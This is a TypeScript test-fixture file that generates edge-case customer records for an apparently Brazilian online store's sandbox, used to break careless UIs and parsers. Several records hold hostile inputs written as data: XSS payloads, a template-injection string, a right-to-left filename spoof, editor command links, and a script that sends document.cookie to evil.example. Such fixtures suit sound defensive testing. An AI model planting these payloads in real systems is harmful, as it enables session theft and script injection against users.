/**
 * The named customers of loja-aurora (EDGE_CASE_IDS): values that break careless UIs and parsers.
 * knownGood and company follow the shared fixture records (check digits made valid).
 */
import { EDGE_CASE_IDS, HOSTILE_LABELS, type SandboxStoreInfo, XSS_CUSTOMER_IDS } from './constants';
import { anonymize, cnpjFromBase, cpfFromBase, phoneOf, type Json } from './vocabulary';
import { XSS_SEPARATOR, xssGroups } from './xssCorpus';

const digits = (s: string): number[] => Array.from(s, Number);

function base(store: SandboxStoreInfo, id: number, over: Json): Json {
  const token = `${id.toString(16)}0c5f2b19d6e3a71`.padEnd(32, 'a');
  return {
    id,
    merchant_id: store.id,
    marketplace_id: null,
    active: true,
    type: 'f',
    cluster_id: 2,
    name: 'Mariana Costa Ribeiro',
    first_name: 'Mariana',
    last_name: 'Costa Ribeiro',
    generic_name: 'Mariana Costa Ribeiro',
    cpf: cpfFromBase(digits('348912675')),
    spreadsheet: {
      data: {
        brands: 'Natura, O Boticário, Eudora',
        city: 'Ribeirão Preto',
        purchased_brands: 'Natura, O Boticário',
        last_order_date: { date: '2025-05-18 14:32:07.000000', timezone_type: 3, timezone: 'America/Sao_Paulo' },
        last_order_value: '189.90',
        purchased_categories: 'Perfumaria, Cabelos',
        number: '1450',
        uf: 'SP',
        phone: '(16) 98187-5668',
        street: 'Avenida Presidente Vargas',
        phone_number: '981875668',
        categories: 'Perfumaria, Cabelos, Maquiagem',
        neighborhood: 'Jardim Irajá',
        complement: 'Apto 72',
        phone_code: '16',
      },
    },
    phone: phoneOf('16', '981875668'),
    razao_social: null,
    cnpj: null,
    state_registration: null,
    email: 'mariana.c.ribeiro@exemplo.com.br',
    birthday: '1991-08-23',
    newsletter: true,
    whatsapp: true,
    social_driver: null,
    social_id: null,
    ip: '203.0.113.45',
    token,
    utm_source: 'instagram',
    utm_campaign: 'black-friday-2024',
    notes: 'Prefere entrega no período da tarde.',
    login_url: `https://${store.domain}/auth/login?token=${token}`,
    anonymized: false,
    ...over,
  };
}

const LONG_NAME = `Maria ${'da Conceição Aparecida dos Santos '.repeat(8)}Oliveira`.slice(0, 300);
const LONG_NOTES = 'Observação muito longa sobre a entrega. '.repeat(125);
const UNBROKEN = 'R'.repeat(400);

export function edgeCaseCustomers(store: SandboxStoreInfo): Json[] {
  const e = EDGE_CASE_IDS;
  const nullFields = [
    'marketplace_id', 'active', 'type', 'cluster_id', 'name', 'first_name', 'last_name', 'generic_name', 'cpf', 'spreadsheet',
    'phone', 'razao_social', 'cnpj', 'state_registration', 'email', 'birthday', 'newsletter', 'whatsapp', 'social_driver',
    'social_id', 'ip', 'token', 'utm_source', 'utm_campaign', 'notes', 'login_url', 'anonymized',
  ];
  const emptyFields = [
    'type', 'name', 'first_name', 'last_name', 'generic_name', 'cpf', 'razao_social', 'cnpj', 'state_registration', 'email',
    'birthday', 'social_driver', 'ip', 'token', 'utm_source', 'utm_campaign', 'notes', 'login_url',
  ];
  return [
    base(store, e.knownGood, {}),
    base(store, e.company, {
      type: 'j', cluster_id: 5, name: 'Ana Luiza Ferreira', first_name: 'Ana Luiza', last_name: 'Ferreira',
      generic_name: 'Bela Forma Cosméticos Ltda', razao_social: 'Bela Forma Cosméticos Ltda',
      cpf: cpfFromBase(digits('906183244')), cnpj: cnpjFromBase(digits('274819530001')), state_registration: '9084512367',
      email: 'compras@belaforma.exemplo.com.br', birthday: null, phone: phoneOf('41', '30224519'), notes: 'Cliente atacado - revenda.',
    }),
    base(store, e.markupName, {
      name: '<b>Renata</b> <img src=x onerror=alert(1)> Duarte', first_name: '<b>Renata</b>', last_name: '<i>Duarte</i>',
      generic_name: '<marquee>Renata</marquee>', notes: '<a href="javascript:alert(1)">clique aqui</a>',
      email: 'renata+<tag>@exemplo.com.br',
    }),
    base(store, e.scriptNotes, {
      name: 'Paulo "Script" D\'Ávila & Filhos', notes: `<script>alert('xss')</script> Entregar na portaria & "fundos" 'depois' das 18h`,
      utm_campaign: `"><script>document.location='https://evil.example/?c='+document.cookie</script>`,
      utm_source: '{{constructor.constructor("alert(1)")()}}',
    }),
    base(store, e.rtl, {
      name: 'مريم الحسيني', first_name: 'مريم', last_name: 'الحسيني', generic_name: 'מרים אל-חוסייני',
      notes: 'שלום — cliente fala árabe e hebraico \u202Egnp.exe\u202C fim', email: 'maryam.alhusseini@exemplo.com.br',
    }),
    base(store, e.emoji, {
      name: 'Zoë 🌸 Conceição Brandão 👩🏽‍💻', first_name: 'Zoë 🌸', last_name: 'Conceição Brandão 👩🏽‍💻',
      notes: 'Adora 🎁🎉 e café ☕ — ação, coração, pão, maçã, ñ, ü, ß', email: 'zoe.brandao@exemplo.com.br',
    }),
    base(store, e.longValues, {
      name: LONG_NAME, first_name: 'Maria', last_name: LONG_NAME.slice(6), generic_name: LONG_NAME, notes: LONG_NOTES,
      email: `${'muito.longo.'.repeat(15)}email@exemplo.com.br`,
      spreadsheet: { data: { city: 'Vila Bela da Santíssima Trindade', uf: 'MT', street: UNBROKEN, number: '1'.repeat(40) } },
    }),
    { ...Object.fromEntries(nullFields.map((k) => [k, null])), id: e.nulls, merchant_id: store.id },
    // a dual-stack server records an IPv4 client as IPv4-mapped IPv6 (issue 23)
    base(store, e.arrayData, { name: 'Otávio Array Nascimento', first_name: 'Otávio', last_name: 'Array Nascimento', ip: '::ffff:203.0.113.45' }),
    anonymize(base(store, e.anonymized, {})),
    base(store, e.inactive, { active: false, name: 'Sérgio Inativo Marques', first_name: 'Sérgio', last_name: 'Inativo Marques' }),
    base(store, e.invalidCpf, { cpf: '12345678900', name: 'Tânia CPF Inválido', first_name: 'Tânia', last_name: 'CPF Inválido' }),
    { ...base(store, e.emptyFields, {}), ...Object.fromEntries(emptyFields.map((k) => [k, ''])), phone: phoneOf('', '') },
    base(store, e.hostileLabels, {
      name: HOSTILE_LABELS.name, first_name: '$(verified-filled) Loja', last_name: 'Oficial **bold** [x](command:yampi.signOut) <b>html</b>',
      generic_name: '$(alert) [Loja](https://evil.example) <a href="command:yampi.signOut">sair</a>',
      email: 'oficial.$(alert)@www.evil.example',
      notes: '$(alert) **Atenção** [clique](command:yampi.signOut) https://evil.example www.evil.example <img src=x onerror=alert(1)>',
      utm_source: '$(github) https://evil.example', utm_campaign: '[promo](command:workbench.action.terminal.new)',
      spreadsheet: { data: { city: HOSTILE_LABELS.city, uf: 'SP', last_order_value: '189.90', neighborhood: '**Centro** <i>velho</i>' } },
    }),
    ...xssGroups().map((group, i) => xssCustomer(store, XSS_CUSTOMER_IDS[i] ?? 0, group)),
  ];
}

/** Every text field of the documented record (XSS customers carry a payload group in each). */
const XSS_TEXT_FIELDS = [
  'type', 'name', 'first_name', 'last_name', 'generic_name', 'cpf', 'razao_social', 'cnpj', 'state_registration', 'email', 'birthday',
  'social_driver', 'social_id', 'ip', 'token', 'login_url', 'utm_source', 'utm_campaign', 'notes',
] as const;
const XSS_PHONE_FIELDS = ['area_code', 'full_number', 'number', 'formated_number', 'whatsapp_link'] as const;
const XSS_SHEET_FIELDS = [
  'brands', 'city', 'purchased_brands', 'last_order_date', 'last_order_value', 'purchased_categories', 'number', 'uf', 'phone', 'street',
  'phone_number', 'categories', 'neighborhood', 'complement', 'phone_code',
] as const;

/** One XSS customer: the joined payload group in every text field, known and unknown (XSS_CUSTOMER_IDS). */
function xssCustomer(store: SandboxStoreInfo, id: number, group: readonly string[]): Json {
  const v = group.join(XSS_SEPARATOR);
  const each = (keys: readonly string[]): Json => Object.fromEntries(keys.map((k) => [k, v]));
  return {
    ...base(store, id, each(XSS_TEXT_FIELDS)),
    phone: each(XSS_PHONE_FIELDS),
    spreadsheet: { data: each(XSS_SHEET_FIELDS) },
    xss_extra: v,
    xss_nested: { inner: v, list: [v] },
    [group[0] ?? 'xss_key']: v,
  };
}
